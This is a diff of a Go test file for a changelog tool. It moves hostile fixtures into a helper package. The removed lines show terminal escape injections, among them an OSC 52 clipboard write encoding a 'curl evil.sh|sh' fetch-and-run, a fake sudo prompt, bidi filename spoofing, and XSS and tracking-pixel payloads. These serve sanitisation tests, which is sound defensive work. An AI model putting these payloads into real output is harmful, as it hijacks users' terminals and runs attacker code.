@@ -13,35 +13,10 @@ import (
 	"strings"
 	"testing"
 	"time"
-	"unicode"
-
-	"github.com/yuin/goldmark"
-	"github.com/yuin/goldmark/ast"
-	"github.com/yuin/goldmark/extension"
-	"github.com/yuin/goldmark/text"
 
 	"github.com/digest-cli/digest/internal/changelog"
+	"github.com/digest-cli/digest/internal/hostiletest"
 )
-
-const (
-	hostileOSC52   = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
-	hostileTitle   = "\x1b]0;sudo password:\x07"
-	hostileClear   = "\x1b[2J\x1b[H"
-	hostileRewrite = "all tests failed\rall tests passed"
-	hostileRTL     = "invoice_\u202egnp.exe"
-	hostileC1      = "\u009b2J"
-	hostileIsolate = "\u2067admin\u2069\u200f"
-	hostileTags    = "ok\U000e0049\U000e0047\U000e004e"
-)
-
-// hostileText is every kind of hostile text in one string.
-var hostileText = strings.Join([]string{hostileOSC52, hostileTitle, hostileClear, hostileRewrite, hostileRTL, hostileC1, hostileIsolate, hostileTags, "\xff\xfe"}, " ")
-
-// hostileSummary is what a model could answer: Markdown structure, HTML, a
-// remote image and an unclosed fence that would swallow the rest.
-const hostileSummary = "# Pwned\n\nAdds <mark>retries</mark> to remote.<name>.promisor.\n\n" +
-	"> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n![pixel](https://evil.example/p.png) [click](https://evil.example)\n" +
-	"<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n\x1b]0;title\x07\u202e\n```\nthe rest of the changelog"
 
 func hostileChangelog() *changelog.Changelog {
 	day := time.Date(2026, 5, 3, 9, 0, 0, 0, time.UTC)
@@ -51,53 +26,17 @@ func hostileChangelog() *changelog.Changelog {
 			SkippedFiles: []changelog.SkippedFile{{Path: path, Reason: "binary"}}}
 	}
 	return &changelog.Changelog{
-		Model: "offline`" + hostileTitle,
+		Model: "offline`" + hostiletest.Title,
 		Entries: []changelog.Entry{
-			entry("api"+hostileOSC52+" # repo", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "Mallory"+hostileRTL,
-				"# Fix <mark>"+hostileClear, hostileSummary, "logo"+hostileRTL+".png"),
-			entry("api"+hostileOSC52+" # repo", "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb", hostileIsolate,
-				"> quote", "- Fixes x\n- ```\n"+hostileText, "a|b\n## c.txt"),
-			entry("```", "cccccccccccccccccccccccccccccccccccccccc", "Eve", hostileRewrite,
+			entry("api"+hostiletest.OSC52+" # repo", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "Mallory"+hostiletest.RTL,
+				"# Fix <mark>"+hostiletest.Clear, hostiletest.Summary, "logo"+hostiletest.RTL+".png"),
+			entry("api"+hostiletest.OSC52+" # repo", "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb", hostiletest.Isolate,
+				"> quote", "- Fixes x\n- ```\n"+hostiletest.Text, "a|b\n## c.txt"),
+			entry("```", "cccccccccccccccccccccccccccccccccccccccc", "Eve", hostiletest.Rewrite,
 				"Rewrites the parser.\r\n\r\n```go\nfunc main() {", "<script>.js"),
 			entry("<details>", "dddddddddddddddddddddddddddddddddddddddd", "Eve", "Fixes `x`",
 				"Fixes `<mark>` handling in `remote.<name>.promisor`.", "ok.go"),
 		},
-	}
-}
-
-// gfm reads Markdown back as GitHub does.
-var gfm = goldmark.New(goldmark.WithExtensions(extension.GFM))
-
-// markdownNodes counts the nodes of each kind in a Markdown document.
-func markdownNodes(t *testing.T, md []byte) map[string]int {
-	t.Helper()
-	doc := gfm.Parser().Parse(text.NewReader(md))
-	kinds := map[string]int{}
-	err := ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
-		if entering {
-			kinds[n.Kind().String()]++
-		}
-		return ast.WalkContinue, nil
-	})
-	if err != nil {
-		t.Fatal(err)
-	}
-	return kinds
-}
-
-// checkTerminalSafe fails when out holds anything a terminal acts on or
-// that reorders or hides text: control characters but line feed and tab,
-// DEL, C1 controls, bidirectional controls, invisible format characters,
-// tag characters, bytes that are not UTF-8.
-func checkTerminalSafe(t *testing.T, name string, out []byte) {
-	t.Helper()
-	for i, r := range string(out) {
-		notUTF8 := r == unicode.ReplacementChar && !bytes.HasPrefix(out[i:], []byte("\ufffd"))
-		if notUTF8 || r < 0x20 && r != '\n' && r != '\t' || r >= 0x7f && r <= 0x9f ||
-			unicode.Is(unicode.Cf, r) && r != 0x200c && r != 0x200d || r == 0x2028 || r == 0x2029 {
-			t.Errorf("%s: %U at byte %d: %q", name, r, i, out[max(0, i-20):min(len(out), i+20)])
-			return
-		}
 	}
 }
 
@@ -108,8 +47,8 @@ func TestHostileChangelogMarkdown(t *testing.T) {
 		t.Fatal(err)
 	}
 	out := b.Bytes()
-	checkTerminalSafe(t, "markdown", out)
-	nodes := markdownNodes(t, out)
+	hostiletest.CheckTerminalSafe(t, "markdown", out)
+	nodes := hostiletest.MarkdownNodes(t, out)
 	// # Changelog, three repositories, one version and one group each.
 	if nodes["Heading"] != 1+3+3+3 || nodes["ListItem"] != len(c.Entries) || nodes["List"] != 3 {
 		t.Errorf("structure changed: %d headings, %d lists, %d items, want 10, 3, 4\n%s", nodes["Heading"], nodes["List"], nodes["ListItem"], out)
@@ -154,7 +93,7 @@ func TestHostileChangelogJSONKeepsTheData(t *testing.T) {
 		if err := r.Write(&b, c); err != nil {
 			t.Fatal(err)
 		}
-		checkTerminalSafe(t, format, b.Bytes())
+		hostiletest.CheckTerminalSafe(t, format, b.Bytes())
 		var got []changelog.Entry
 		if format == "json" {
 			var doc struct {
@@ -184,7 +123,7 @@ func TestHostileChangelogJSONKeepsTheData(t *testing.T) {
 		for i, e := range got {
 			want := c.Entries[i]
 			// The one change JSON makes: each byte that is not UTF-8 becomes
-			// U+FFFD; hostileText has one run of two.
+			// U+FFFD; hostiletest.Text has one run of two.
 			fix := func(s string) string { return strings.ToValidUTF8(s, "\ufffd\ufffd") }
 			if e.Repo != want.Repo || e.Author != want.Author || e.Subject != want.Subject || e.Summary != fix(want.Summary) ||
 				!reflect.DeepEqual(e.SkippedFiles, want.SkippedFiles) {
